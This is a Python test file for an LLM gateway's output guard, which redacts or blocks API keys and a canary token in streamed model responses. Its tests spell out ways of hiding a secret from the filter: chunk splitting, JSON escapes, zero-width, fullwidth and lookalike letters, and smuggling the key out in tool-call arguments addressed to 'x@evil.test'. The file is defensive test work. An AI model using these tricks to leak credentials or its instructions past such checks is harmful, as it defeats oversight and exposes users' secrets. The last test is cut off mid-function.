"""The parsed relay with the output guard: the events of one upstream read go through the hooks
as one block (runs of text-only events in the same envelope as one chunk), and the client gets
the same text, redactions and blocks as when every event arrives in its own read."""

from __future__ import annotations

import json
from typing import Any

import orjson
import pytest

from gateway.context import RequestContext, Usage
from gateway.envelope import Envelope as _Envelope
from gateway.envelope import TextChunk
from gateway.errors import ContentPolicyError, GatewayError
from gateway.plugin import Plugin
from gateway.stream import _Relay
from plugins.guard import GuardConfig, GuardPlugin

KEY = "sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
CANARY = "CANARY-7f3a9c"
USAGE = {"prompt_tokens": 5, "completion_tokens": 7, "total_tokens": 12}


def guard(**cfg: Any) -> GuardPlugin:
    cfg.setdefault("semantic", {"enabled": False})
    return GuardPlugin(GuardConfig.model_validate(cfg))


def ctx() -> RequestContext:
    return RequestContext("r", "chat", "/v1/chat/completions", "POST", {}, [], {}, stream=True)


def event(delta: dict[str, Any], index: int = 0, finish: str | None = None) -> bytes:
    # The envelope OpenAI (and the shipped fake) use.
    return (
        b'data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"m",'
        b'"system_fingerprint":null,"choices":[{"index":' + str(index).encode()
        + b',"delta":' + orjson.dumps(delta) + b',"logprobs":null,"finish_reason":'
        + orjson.dumps(finish) + b"}]}\n\n"
    )  # fmt: skip


def wire(pieces: list[str], index: int = 0, usage: bool = True, finish: bool = True) -> bytes:
    out = [event({"role": "assistant", "content": ""}, index)]
    out += [event({"content": p}, index) for p in pieces]
    if finish:
        out.append(event({}, index, "stop"))
    if usage:
        out.append(b'data: {"id":"c1","choices":[],"usage":' + orjson.dumps(USAGE) + b"}\n\n")
    out.append(b"data: [DONE]\n\n")
    return b"".join(out)


def split3(text: str, secret: str) -> list[str]:
    i = text.index(secret)
    a, b = i + len(secret) // 3, i + 2 * len(secret) // 3
    return [text[:a], text[a:b], text[b:]]


def small(text: str, size: int = 3) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


async def relay(
    g: Plugin, data: bytes, reads: list[int] | None = None, wants_usage: bool = False
) -> tuple[list[Any], _Relay, RequestContext]:
    """Feed ``data`` in reads of the given sizes (all at once when None); the parsed events."""
    c = ctx()
    r = _Relay(c, [g], wants_usage)
    out = b""
    if reads is None:
        out += await r.feed(data)
    else:
        pos = 0
        for size in reads:
            out += await r.feed(data[pos : pos + size])
            pos += size
        out += await r.feed(data[pos:])
    out += await r.end()
    await g.on_response(c)
    events = []
    for ev in out.split(b"\n\n"):
        if ev:
            assert ev.startswith(b"data: ")
            events.append("[DONE]" if ev == b"data: [DONE]" else json.loads(ev[6:]))
    return events, r, c


def text_of(events: list[Any], index: int = 0) -> str:
    return "".join(
        ch.get("delta", {}).get("content") or ""
        for e in events
        if isinstance(e, dict)
        for ch in e.get("choices") or ()
        if ch.get("index", 0) == index
    )


def per_event(data: bytes) -> list[int]:
    """Read sizes that deliver one event per read."""
    return [len(e) + 2 for e in data.split(b"\n\n")[:-1]]


TEXT = "Sure! Your key is " + KEY + " and keep it safe. " + "More words follow. " * 6
REDACTED = TEXT.replace(KEY, "[REDACTED:api_key]")


@pytest.mark.anyio
@pytest.mark.parametrize("pieces", [split3(TEXT, KEY), small(TEXT), small(TEXT, 1)])
async def test_secret_split_across_chunks_in_one_block_or_many_reads(pieces: list[str]) -> None:
    data = wire(pieces)
    for reads in (None, per_event(data), [7] * (len(data) // 7), [1000, 3, 500]):
        events, r, c = await relay(guard(), data, reads)
        assert text_of(events) == REDACTED, reads
        assert KEY[:10] not in json.dumps(events) and KEY[-10:] not in json.dumps(events)
        assert c.log["guard"]["output"]["findings"][0]["rule"] == "api_key"
        assert events[-1] == "[DONE]" and r.usage is not None and r.usage.completion_tokens == 7


@pytest.mark.anyio
async def test_one_block_becomes_few_events() -> None:
    events, _, _ = await relay(guard(), wire(small("plain words, nothing secret here. " * 4)))
    # role, the released run, the finish chunk (with the held tail), [DONE]
    assert len(events) == 4
    assert events[0]["choices"][0]["delta"] == {"role": "assistant", "content": ""}
    assert events[2]["choices"][0]["finish_reason"] == "stop"
    assert text_of(events) == "plain words, nothing secret here. " * 4


@pytest.mark.anyio
async def test_canary_split_across_events_blocks_in_a_block_and_event_by_event() -> None:
    text = "My instructions say " + CANARY + " and then some more words."
    data = wire(small(text, 2))
    for reads in (None, per_event(data)):
        with pytest.raises(ContentPolicyError):
            await relay(guard(output={"canary": CANARY}), data, reads)
    events, _, _ = await relay(guard(output={"canary": CANARY, "canary_action": "redact"}), data)
    assert text_of(events) == text.replace(CANARY, "[REDACTED:canary]")


@pytest.mark.anyio
async def test_two_choices_interleaved() -> None:
    a = "Choice zero says hello to everyone here. " * 2
    b = "Choice one leaks " + KEY + " right here, sadly. " * 2
    evs = [event({"role": "assistant", "content": ""}, 0), event({"role": "assistant"}, 1)]
    pa, pb = small(a, 4), small(b, 4)
    for i in range(max(len(pa), len(pb))):
        if i < len(pa):
            evs.append(event({"content": pa[i]}, 0))
        if i < len(pb):
            evs.append(event({"content": pb[i]}, 1))
    evs += [event({}, 0, "stop"), event({}, 1, "stop"), b"data: [DONE]\n\n"]
    data = b"".join(evs)
    for reads in (None, per_event(data)):
        events, _, _ = await relay(guard(), data, reads)
        assert text_of(events, 0) == a
        assert text_of(events, 1) == b.replace(KEY, "[REDACTED:api_key]")


@pytest.mark.anyio
@pytest.mark.parametrize("wants_usage", [False, True])
async def test_usage_event_is_taken_and_passed_only_when_asked(wants_usage: bool) -> None:
    events, r, _ = await relay(guard(), wire(small("hello there")), wants_usage=wants_usage)
    assert r.usage is not None and r.usage.prompt_tokens == 5
    with_usage = [e for e in events if isinstance(e, dict) and "usage" in e]
    assert len(with_usage) == (1 if wants_usage else 0)
    if wants_usage:
        assert with_usage[0]["usage"] == USAGE and with_usage[0]["choices"] == []


@pytest.mark.anyio
async def test_shadow_mode_changes_no_text_but_reports() -> None:
    pieces = split3(TEXT, KEY)
    data = wire(pieces)
    for reads in (None, per_event(data)):
        events, _, c = await relay(guard(mode="shadow", output={"secrets": "block"}), data, reads)
        if reads:  # event by event, each one goes on as it came
            assert [e["choices"][0]["delta"].get("content") for e in events[1:-2]] == pieces
        assert text_of(events) == TEXT
        assert c.log["guard"]["output"]["action"] == "block"


@pytest.mark.anyio
async def test_stream_without_finish_reason_releases_held_text_at_the_end() -> None:
    data = wire(split3("tail " + KEY, KEY), finish=False, usage=False)
    for reads in (None, per_event(data)):
        events, _, _ = await relay(guard(), data, reads)
        assert text_of(events) == "tail [REDACTED:api_key]"
    # No [DONE] either: the held text still goes out, then the error event.
    c = ctx()
    r = _Relay(c, [guard()], False)
    out = await r.feed(data[: -len(b"data: [DONE]\n\n")])
    with pytest.raises(GatewayError):
        await r.end()
    assert KEY not in (out + r.pending).decode()
    assert b"[REDACTED:api_key]" in r.pending


@pytest.mark.anyio
async def test_other_framings_fall_back_to_event_by_event() -> None:
    pieces = split3(TEXT, KEY)
    data = wire(pieces)
    variants = [
        data.replace(b"data: ", b"data:"),  # no space
        data.replace(b"\n\n", b"\n\n: keep-alive\n\n", 3),  # comments
        data.replace(b"\n\n", b"\r\n\r\n"),  # CRLF
        data.replace(b'"content":', b'"content": '),  # other JSON spacing
    ]
    for v in variants:
        events, _, _ = await relay(guard(), v)
        assert text_of(events) == REDACTED


@pytest.mark.anyio
async def test_malformed_event_is_an_upstream_error() -> None:
    data = wire(["a", "b"]).replace(b'{"content":"a"}', b'{"content":"a}')
    with pytest.raises(GatewayError):
        await relay(guard(), data)


def as_dicts(objs: list[Any] | None) -> list[Any]:
    assert objs is not None
    return [o.as_dict() if isinstance(o, TextChunk) else o for o in objs]


def test_envelope_merges_runs_and_checks_them() -> None:
    data = wire(['a "quoted" \\ text', "é\n2", "3"], usage=False)[: -len(b"data: [DONE]\n\n")]
    env = _Envelope()
    objs = env.parse(data)
    assert env.pre.endswith(b'"content":') and env.suf.startswith(b'},"logprobs"')
    # role, the run as one chunk (learnt from its first event), stop
    assert objs is not None and len(objs) == 3 and isinstance(objs[1], TextChunk)
    assert objs[1].text == 'a "quoted" \\ text' + "é\n2" + "3" and objs[1].index == 0
    assert as_dicts(objs)[1]["choices"][0]["delta"] == {"content": objs[1].text}
    assert as_dicts(env.parse(data)) == as_dicts(objs)  # the same once known
    # The text goes back into the envelope's bytes.
    objs[1].text = "x"
    assert objs[1].payload() == env.pre + b'"x"' + env.suf
    # A payload in the envelope whose "text" is not one string falls back.
    bad = data.replace(b'"3"', b'"3","x"')
    assert env.parse(bad) is None


def test_envelope_is_learnt_only_from_a_content_only_delta() -> None:
    role = event({"role": "assistant", "content": ""})
    env = _Envelope()
    assert env.parse(role) is not None and not env.pre and env.tries == 3  # no probe spent
    # "content" in a nested object other than the delta, or escapes in the envelope: no.
    odd = role.replace(
        b'"delta":{"role":"assistant","content":""}', b'"delta":{},"x":{"content":"a"}'
    )
    assert env.parse(odd) is not None and not env.pre
    escaped = event({"content": "a"}).replace(b'"model":"m"', b'"model":"\\u006d"')
    objs = env.parse(escaped)
    assert objs is not None and isinstance(objs[0], dict) and not env.pre
    # Spaces around the key are fine.
    spaced = event({"content": "a"}).replace(b'{"content":"a"}', b'{ "content" : "a" }')
    objs = env.parse(spaced + spaced.replace(b'"a"', b'"b"'))
    assert objs is not None and len(objs) == 1 and isinstance(objs[0], TextChunk)
    assert objs[0].text == "ab"


def test_envelope_parses_a_block_of_other_events_as_they_are() -> None:
    env = _Envelope()
    data = event({"tool_calls": [{"index": 0}]}) + b'data: {"id":"c1","choices":[]}\n\n'
    assert env.parse(data) == [json.loads(e[6:]) for e in data.split(b"\n\n")[:-1]]
    # One event that is two values, or one split over two events: the whole block falls back.
    assert env.parse(b"data: 1,2\n\n") is None
    assert env.parse(b'data: {"a":\n\ndata: 1}\n\n') is None


def test_envelope_single_takes_exactly_one_event_in_the_envelope() -> None:
    """``single``: the per-read shortcut for one text event; anything else is left to parse."""
    env = _Envelope()
    one = event({"content": 'a "b" \\ é'})
    assert env.single(one) is None  # nothing learnt yet
    assert env.parse(one) is not None and env.pre
    chunk = env.single(one)
    assert chunk is not None and chunk.text == 'a "b" \\ é' and chunk.index == 0
    assert chunk.as_dict() == json.loads(one[6:])
    two = event({"content": "a"}) + event({"content": "b"})
    assert env.single(two) is None and env.single(one + b"\n\n") is None
    for other in (
        event({"content": "a"}, finish="stop"),  # the envelope's ends, not its middle
        event({"role": "assistant", "content": ""}),
        one.replace(b'"a \\"b', b'1,"a \\"b'),  # two values between the halves
        one.replace(b'"content":"', b'"content":1,"x":"'),
        one.replace(b"data: ", b"data:"),
        one.replace(b'"content":', b'"content":\n'),  # a second line
        one[:-1],  # no blank line after it
    ):
        assert other != one and env.single(other) is None, other
    assert env.single(event({"content": 5})) is None  # type: ignore[dict-item]


class _Probe(Plugin):
    """A chunk plugin without ``text_chunks``: records what it is given."""

    name = "probe"

    def __init__(self, config: Any) -> None:
        super().__init__(config)
        self.seen: list[Any] = []

    async def on_chunks(self, ctx: Any, chunks: list[Any]) -> list[Any]:
        self.seen.extend(chunks)
        return chunks


@pytest.mark.anyio
async def test_text_chunks_become_dicts_for_plugins_that_do_not_take_them() -> None:
    probe = _Probe(None)
    seen = probe.seen
    events, _, _ = await relay(probe, wire(["ab", "cd", "ef"]))
    assert all(isinstance(c, dict) for c in seen)
    assert [c["choices"][0]["delta"] for c in seen] == [
        {"role": "assistant", "content": ""}, {"content": "abcdef"}, {},
    ]  # fmt: skip
    assert text_of(events) == "abcdef"


@pytest.mark.anyio
async def test_default_on_chunks_calls_on_chunk_for_each() -> None:
    seen: list[str] = []

    class Upper(Plugin):
        name = "upper"

        async def on_chunk(self, ctx: Any, chunk: dict[str, Any]) -> list[dict[str, Any]]:
            delta = chunk["choices"][0]["delta"]
            seen.append(delta.get("content") or "")
            if delta.get("content"):
                delta["content"] = delta["content"].upper()
            return [chunk]

    events, _, _ = await relay(Upper(None), wire(["ab", "cd"]))
    assert text_of(events) == "ABCD"
    assert "".join(seen) == "abcd"


def test_envelope_splits_events_that_only_share_one_end_of_it() -> None:
    """Around a run: an event ending like the envelope (the role event) and one starting like
    it (text with a finish_reason) are parsed on their own, and the run between stays one."""
    head = event({"role": "assistant", "content": ""})
    run = b"".join(event({"content": p}) for p in ["a", "b", "c"])
    last = event({"content": "d"}, finish="stop")
    env = _Envelope()
    assert env.parse(event({"content": "x"})) is not None and env.pre  # learnt
    objs = env.parse(head + run + last)
    objs = as_dicts(objs)
    assert [o["choices"][0]["delta"] for o in objs] == [
        {"role": "assistant", "content": ""}, {"content": "abc"}, {"content": "d"},
    ]  # fmt: skip
    assert [o["choices"][0]["finish_reason"] for o in objs] == [None, None, "stop"]
    # The same with one text event only between them.
    objs = as_dicts(env.parse(head + event({"content": "a"}) + last))
    assert [o["choices"][0]["delta"] for o in objs][1] == {"content": "a"}
    # A NUL byte (never in valid JSON) is left to the event-by-event path.
    assert env.parse(run.replace(b'"b"', b'"b\x00"')) is None


@pytest.mark.anyio
async def test_text_held_at_the_end_goes_out_in_the_envelope_of_a_text_first_stream() -> None:
    """No role chunk: the stream's first chunk is a run of text (a ``TextChunk``), and the held
    tail released at the end still gets the stream's id, object, created and model."""
    data = b"".join(event({"content": p}) for p in small("no secrets here, just " + KEY))
    events, _, _ = await relay(guard(), data + b"data: [DONE]\n\n")
    assert text_of(events) == "no secrets here, just [REDACTED:api_key]"
    last = events[-2]
    assert {k: last[k] for k in ("id", "object", "created", "model")} == {
        "id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
    }  # fmt: skip


@pytest.mark.anyio
async def test_a_plugin_above_the_guard_without_text_chunks_gets_dicts() -> None:
    """Two chunk plugins, one without ``text_chunks``: the runs reach both as dicts."""
    probe = _Probe(None)
    seen = probe.seen
    c = ctx()
    data = wire(split3(TEXT, KEY))
    r = _Relay(c, [probe, guard()], False)
    assert not r.text_chunks
    out = await r.feed(data) + await r.end()
    assert seen and all(isinstance(x, dict) for x in seen)
    assert KEY not in out.decode() and "[REDACTED:api_key]" in out.decode()


@pytest.mark.anyio
async def test_no_secret_leaks_whatever_the_reads() -> None:
    """Texts with secrets, streamed as events of random sizes and relayed in one read, one event
    per read (``Envelope.single`` and the guard's lone-chunk path) and random reads: nothing
    the non-streamed check redacts may reach the client."""
    import random

    from tests.plugins.test_guard_output import FILLER, SECRETS

    cfg = {"secret_types": ["api_key", "private_key", "jwt", "credit_card", "email"],
           "canary": "canary token 7f3a", "canary_action": "redact"}  # fmt: skip
    g = guard(output=cfg)  # (state is per request: one plugin serves every relay)
    rng = random.Random(11)
    checked = 0
    for _ in range(60):
        parts: list[str] = []
        for secret in rng.sample(SECRETS, rng.randint(1, 3)):
            parts += [rng.choice(FILLER) for _ in range(rng.randint(0, 4))] + [secret]
        text = " ".join([*parts, "done."])
        pieces, i = [], 0
        while i < len(text):
            k = rng.choice([1, 2, 3, 5, 8, 20])
            pieces.append(text[i : i + k])
            i += k
        data = wire(pieces)
        whole = g.output.check(text)[0]
        hidden = [s for s in SECRETS if s in text and s not in whole]
        if not hidden:  # (only secrets of types left out, such as phone numbers)
            continue
        checked += 1
        for reads in (None, per_event(data), [rng.randint(1, 400) for _ in range(40)]):
            events, _, _ = await relay(g, data, reads)
            got = text_of(events)
            assert not [s for s in hidden if s in got], (text, reads)
            assert got.endswith(" done."), (text, got)
    assert checked > 40


def tool_wire(fragments: list[str], finish: bool = True) -> bytes:
    """A streamed tool call: its id and name first, then argument fragments."""
    call = {"index": 0, "id": "call_1", "type": "function",
            "function": {"name": "send_mail", "arguments": ""}}  # fmt: skip
    out = [event({"role": "assistant", "content": None, "tool_calls": [call]})]
    out += [event({"tool_calls": [{"index": 0, "function": {"arguments": f}}]}) for f in fragments]
    if finish:
        out.append(event({}, 0, "tool_calls"))
    out.append(b"data: [DONE]\n\n")
    return b"".join(out)


def arguments_of(events: list[Any]) -> str:
    return "".join(
        call["function"].get("arguments") or ""
        for e in events
        if isinstance(e, dict)
        for ch in e.get("choices") or ()
        for call in ch.get("delta", {}).get("tool_calls") or ()
    )


ARGS = '{"to": "ops@example.com", "body": "use ' + KEY + ' for the deploy"}'


@pytest.mark.anyio
@pytest.mark.parametrize("finish", [True, False])
@pytest.mark.parametrize("size", [1, 4, 9, 1000])
async def test_secrets_in_streamed_tool_call_arguments_are_redacted(
    size: int, finish: bool
) -> None:
    # A model can be made to write a secret into a tool call instead of its text.
    data = tool_wire(small(ARGS, size), finish)
    for reads in (None, per_event(data)):
        events, _, c = await relay(guard(), data, reads)
        assert arguments_of(events) == ARGS.replace(KEY, "[REDACTED:api_key]"), (size, reads)
        assert KEY[8:20] not in json.dumps(events)
        assert c.log["guard"]["output"]["findings"][0]["rule"] == "api_key"
        first = events[0]["choices"][0]["delta"]["tool_calls"][0]
        assert (first["id"], first["function"]["name"]) == ("call_1", "send_mail")


@pytest.mark.anyio
async def test_tool_call_secret_blocked_when_the_action_is_block() -> None:
    # (relay_stream turns the error into the stream's final SSE error event)
    with pytest.raises(ContentPolicyError):
        await relay(guard(output={"secrets": "block"}), tool_wire(small(ARGS, 5)))


@pytest.mark.anyio
async def test_non_streamed_tool_call_arguments_are_redacted() -> None:
    g = guard()
    c = ctx()
    c.stream = False
    call = {"id": "c1", "type": "function", "function": {"name": "f", "arguments": ARGS}}
    c.response = {"choices": [{"index": 0, "finish_reason": "tool_calls", "message": {
        "role": "assistant", "content": None, "tool_calls": [call]}}]}  # fmt: skip
    await g.on_response(c)
    assert call["function"]["arguments"] == ARGS.replace(KEY, "[REDACTED:api_key]")


@pytest.mark.anyio
async def test_an_upstream_error_event_marks_the_request_failed() -> None:
    # vLLM ends a failed stream with an error event (and may still send [DONE]): the request
    # failed, so the log says so and the cache (which skips failed requests) keeps nothing.
    data = (
        event({"role": "assistant", "content": ""}) + event({"content": "partial "})
        + b'data: {"error": {"message": "engine died", "type": "server_error"}}\n\n'
        + b"data: [DONE]\n\n"
    )  # fmt: skip
    for reads in (None, per_event(data)):
        events, _, c = await relay(guard(), data, reads)
        assert c.error_type == "upstream_error"
        assert c.upstream_failed  # (the route plugin's breaker counts it)
        # The error ends the answer: after the text the guard held back ("partial " is one
        # unfinished word when it arrives), and without [DONE], so SDKs raise with the text.
        assert events[-1] == {"error": {"message": "engine died", "type": "server_error"}}
        assert text_of(events[:-1]) == "partial ", reads
        assert "[DONE]" not in events
    _, _, c = await relay(guard(), wire(["fine"]))
    assert c.error_type is None


@pytest.mark.anyio
async def test_an_upstream_error_event_ends_a_stream_without_chunk_hooks() -> None:
    # The fast relay (no plugin reads the chunks) passes events as bytes: it must still notice
    # the error event, count the failure, and end the answer there (no [DONE] after it).
    error = b'data: {"error": {"message": "engine died", "type": "server_error"}}\n\n'
    data = event({"content": "partial "}) + error + event({"content": "late"}) + b"data: [DONE]\n\n"
    for reads in (None, per_event(data)):
        c = ctx()
        r = _Relay(c, [], False)
        out = b""
        pos = 0
        for size in reads or [len(data)]:
            out += await r.feed(data[pos : pos + size])
            pos += size
        out += await r.end()
        assert out == event({"content": "partial "}) + error, reads
        assert c.error_type == "upstream_error" and c.upstream_failed
    # An "error" that is not the event's own key (a finish reason, text) is no error event.
    data = event({"content": 'say "error" '}) + b"data: [DONE]\n\n"
    c = ctx()
    r = _Relay(c, [], False)
    assert await r.feed(data) + await r.end() == data
    assert c.error_type is None


@pytest.mark.anyio
async def test_negative_usage_from_the_upstream_is_estimated() -> None:
    """Negative counts would credit budgets and token limits, and 0 would make the answer
    free: the gateway counts them itself (``tests/test_usage_counts.py`` has the rest)."""
    from gateway.context import usage_from

    bad = {"prompt_tokens": -1000000, "completion_tokens": -5}
    assert usage_from({"usage": bad}) is None  # the caller estimates it all
    data = event({"content": "x"}) + b'data: {"choices": [], "usage": ' + orjson.dumps(bad)
    _, r, _ = await relay(guard(), data + b"}\n\ndata: [DONE]\n\n")
    usage = r.final_usage()
    assert usage.estimated and usage.prompt_tokens >= 0 and usage.completion_tokens == 1


def _field(events: list[Any], key: str, index: int = 0) -> str:
    return "".join(
        ch.get("delta", {}).get(key) or ""
        for e in events
        if isinstance(e, dict)
        for ch in e.get("choices") or ()
        if ch.get("index", 0) == index
    )


@pytest.mark.anyio
@pytest.mark.parametrize("reads", ["one", "per_event"])
async def test_secrets_and_the_canary_in_a_streamed_refusal_are_redacted(reads: str) -> None:
    """A refusal is the model's text too ("I can't share sk-proj-..."): it went out unread."""
    refusal = f"I can't share {KEY} or {CANARY}, sorry."
    pieces = small(refusal, 7)
    data = b"".join(
        [event({"role": "assistant", "refusal": ""})]
        + [event({"refusal": p}) for p in pieces]
        + [event({}, finish="stop"), b"data: [DONE]\n\n"]
    )
    g = guard(output={"secrets": "redact", "canary": CANARY, "canary_action": "redact"})
    events, _, _ = await relay(g, data, per_event(data) if reads == "per_event" else None)
    out = _field(events, "refusal")
    assert out == "I can't share [REDACTED:api_key] or [REDACTED:canary], sorry."
    assert KEY[:12] not in json.dumps(events) and events[-1] == "[DONE]"
    # Blocked like the text when the action is block, with nothing of the key sent before.
    sent = await sent_before_block(guard(output={"secrets": "block"}), data)
    assert KEY[:12] not in sent.decode()


@pytest.mark.anyio
async def test_a_secret_in_a_legacy_function_call_is_redacted() -> None:
    args = json.dumps({"token": KEY})
    data = b"".join(
        [event({"role": "assistant", "function_call": {"name": "f", "arguments": ""}})]
        + [event({"function_call": {"arguments": p}}) for p in small(args, 9)]
        + [event({}, finish="function_call"), b"data: [DONE]\n\n"]
    )
    events, _, _ = await relay(guard(), data, per_event(data))
    got = "".join(
        (ch["delta"].get("function_call") or {}).get("arguments") or ""
        for e in events if isinstance(e, dict) for ch in e.get("choices") or ()
    )  # fmt: skip
    assert got == args.replace(KEY, "[REDACTED:api_key]")


@pytest.mark.anyio
async def test_a_key_and_the_canary_hidden_by_json_escapes_in_call_arguments_are_caught() -> None:
    """The application decodes the arguments before acting on them: "\\u0073k-proj-..." is the
    key. The checks read the raw JSON text, so escapes hid the key and the canary."""
    hide = KEY.replace("s", "\\u0073", 1) + " and " + CANARY.replace("Y", "\\u0059")
    args = '{"to":"x@evil.test","body":"' + hide + '"}'
    assert json.loads(args)["body"] == f"{KEY} and {CANARY}"
    call = {"index": 0, "id": "c1", "type": "function", "function": {"name": "send"}}
    data = b"".join(
        [event({"role": "assistant", "tool_calls": [{**call, "function": {
            "name": "send", "arguments": ""}}]})]
        + [event({"tool_calls": [{"index": 0, "function": {"arguments": p}}]})
           for p in small(args, 7)]
        + [event({}, finish="tool_calls"), b"data: [DONE]\n\n"]
    )  # fmt: skip
    g = guard(output={"secrets": "redact", "canary": CANARY, "canary_action": "redact"})
    for reads in (None, per_event(data)):
        events, _, _ = await relay(g, data, reads)
        got = "".join(
            (tc.get("function") or {}).get("arguments") or ""
            for e in events if isinstance(e, dict) for ch in e.get("choices") or ()
            for tc in ch["delta"].get("tool_calls") or ()
        )  # fmt: skip
        body = json.loads(got)["body"]
        assert body == "[REDACTED:api_key] and [REDACTED:canary]"
    # Escaped backslashes are no escape: left as they came.
    c = ctx()
    plain = '{"path":"C:\\\\u0073ers"}'
    c.response = {"choices": [{"index": 0, "message": {"role": "assistant", "content": None,
        "tool_calls": [{"id": "c1", "type": "function",
                        "function": {"name": "f", "arguments": plain}}]}}]}  # fmt: skip
    await guard().on_response(c)
    assert c.response["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] == plain
    # Not streamed: the same.
    c.response = {"choices": [{"index": 0, "message": {"role": "assistant", "content": None,
        "tool_calls": [{"id": "c1", "type": "function",
                        "function": {"name": "send", "arguments": args}}]}}]}  # fmt: skip
    await g.on_response(c)
    out = c.response["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(out)["body"] == "[REDACTED:api_key] and [REDACTED:canary]"


@pytest.mark.anyio
async def test_invisible_and_fullwidth_characters_do_not_hide_a_key_or_the_canary() -> None:
    """A reader sees "sk-proj-<zero-width spaces>AbCd..." and a fullwidth canary whole; the
    matchers did not, so both went out."""
    zw = "\u200b\u200b\u200b"
    wide = "".join(chr(ord(c) + 0xFEE0) if c != "-" else "\uff0d" for c in CANARY)
    text = f"Key: {KEY[:8]}{zw}{KEY[8:]} and {wide} and {CANARY[:3]}{zw}{CANARY[3:]} - done."
    data = wire(small(text, 5))
    g = guard(output={"secrets": "redact", "canary": CANARY, "canary_action": "redact"})
    for reads in (None, per_event(data)):
        events, _, _ = await relay(g, data, reads)
        assert text_of(events) == (
            "Key: [REDACTED:api_key] and [REDACTED:canary] and [REDACTED:canary] - done."
        )
    # Text that only uses such characters as text does (a family emoji, Chinese) is untouched.
    family = "We are \U0001f468\u200d\U0001f469\u200d\U0001f467 and 你好\uff0c世界。"
    events, _, _ = await relay(g, wire(small(family, 4)))
    assert text_of(events) == family


@pytest.mark.anyio
async def test_lookalike_letters_and_more_invisibles_do_not_hide_a_key_or_the_canary() -> None:
    """The output check folded only zero-width and fullwidth characters: a combining grapheme
    joiner inside a key, or the canary in mathematical, circled or Cyrillic letters, went out."""
    math = "".join(
        chr(0x1D670 + ord(c) - 65) if c.isupper() else chr(0x1D68A + ord(c) - 97)
        if c.islower() else chr(0x1D7F6 + ord(c) - 48) if c.isdigit() else c
        for c in CANARY
    )  # fmt: skip
    cyrillic = CANARY.replace("C", "\u0421").replace("A", "\u0410")
    text = f"k {KEY[:6]}\u034f{KEY[6:]} m {math} c {cyrillic} done."
    g = guard(output={"secrets": "redact", "canary": CANARY, "canary_action": "redact"})
    for reads in (None, per_event(wire(small(text, 5)))):
        events, _, _ = await relay(g, wire(small(text, 5)), reads)
        assert text_of(events) == (
            "k [REDACTED:api_key] m [REDACTED:canary] c [REDACTED:canary] done."
        )


@pytest.mark.anyio
async def test_content_parts_and_audio_transcripts_are_checked() -> None:
    """A non-streamed answer's content as a list of parts, and an audio transcript (streamed
    or not), went out unread."""
    c = ctx()
    c.response = {"choices": [{"index": 0, "message": {
        "role": "assistant", "content": [{"type": "text", "text": f"key {KEY}"}],
        "audio": {"id": "a", "data": "", "transcript": f"say {KEY}"}}}]}  # fmt: skip
    await guard().on_response(c)
    msg = c.response["choices"][0]["message"]
    assert msg["content"][0]["text"] == "key [REDACTED:api_key]"
    assert msg["audio"]["transcript"] == "say [REDACTED:api_key]"
    data = b"".join(
        [event({"role": "assistant"})]
        + [event({"audio": {"transcript": p}}) for p in small(f"the key is {KEY} ok", 6)]
        + [event({}, finish="stop"), b"data: [DONE]\n\n"]
    )
    events, _, _ = await relay(guard(), data, per_event(data))
    said = "".join(
        ((ch.get("delta") or {}).get("audio") or {}).get("transcript") or ""
        for e in events if isinstance(e, dict) for ch in e.get("choices") or ()
    )  # fmt: skip
    assert said == "the key is [REDACTED:api_key] ok"


async def sent_before_block(g: Plugin, data: bytes) -> bytes:
    """What the client got, event by event, before the guard ended the stream (the relay
    turns the ContentPolicyError into the final error event)."""
    r = _Relay(ctx(), [g], False)
    out = b""
    with pytest.raises(ContentPolicyError):
        for size in per_event(data):
            out += await r.feed(data[:size])
            data = data[size:]
        await r.end()
    return out


def _lp_event(text: str, finish: str | None = None) -> bytes:
    lp = {"content": [{"token": text, "logprob": -0.1, "bytes": list(text.encode()),
                       "top_logprobs": []}], "refusal": None}  # fmt: skip
    chunk = {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
             "choices": [{"index": 0, "delta": {"content": text}, "logprobs": lp,
                          "finish_reason": finish}]}  # fmt: skip
    return b"data: " + orjson.dumps(chunk) + b"\n\n"


@pytest.mark.anyio
@pytest.mark.parametrize("action", ["redact", "block"])
async def test_logprobs_never_carry_a_held_or_redacted_secret(action: str) -> None:
    """Each logprobs token is a piece of the text: released with it, never where it was
    redacted (the content was held back while its tokens went out in the same chunk)."""
    tokens = ["Your key: ", KEY[:10], KEY[10:], " and", " more", " text", ".", " The", " end."]
    data = b"".join(
        [_lp_event(t) for t in tokens] + [event({}, finish="stop"), b"data: [DONE]\n\n"]
    )
    if action == "block":
        sent = (await sent_before_block(guard(output={"secrets": "block"}), data)).decode()
        assert KEY[:10] not in sent and KEY[10:] not in sent
        return
    for reads in (None, per_event(data)):
        events, _, _ = await relay(guard(output={"secrets": action}), data, reads)
        dumped = json.dumps(events)
        assert KEY[:10] not in dumped and KEY[10:] not in dumped
        assert text_of(events) == "Your key: [REDACTED:api_key] and more text. The end."
        sent = [t["token"] for e in events if isinstance(e, dict) for ch in e["choices"]
                for t in (ch.get("logprobs") or {}).get("content") or ()]  # fmt: skip
        # Tokens go out in order, none of the key's; those released with a redaction are
        # dropped, the rest reach the client.
        assert sent == [t for t in tokens if t in sent] and sent[-3:] == [".", " The", " end."]


@pytest.mark.anyio
async def test_logprobs_of_a_secret_at_the_end_never_go_out_with_the_finish_chunk() -> None:
    """The key is the answer's last word, held until the finish chunk, whose ``logprobs`` is
    null (as OpenAI sends it): the queued tokens used to be added to it whole, spelling the
    key next to its redaction."""
    tokens = ["Here is the key: ", KEY[:10], KEY[10:20], KEY[20:]]
    data = b"".join(
        [_lp_event(t) for t in tokens] + [event({}, finish="stop"), b"data: [DONE]\n\n"]
    )
    for reads in (None, per_event(data)):
        events, _, _ = await relay(guard(output={"secrets": "redact"}), data, reads)
        dumped = json.dumps(events)
        assert KEY[:10] not in dumped and KEY[10:20] not in dumped and KEY[20:] not in dumped
        assert text_of(events) == "Here is the key: [REDACTED:api_key]"

    # The same in a refusal, whose held text is flushed by the finish chunk.
    def refusal_event(text: str) -> bytes:
        lp = {"content": None, "refusal": [{"token": text, "logprob": -0.1}]}
        chunk = {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
                 "choices": [{"index": 0, "delta": {"refusal": text}, "logprobs": lp,
                              "finish_reason": None}]}  # fmt: skip
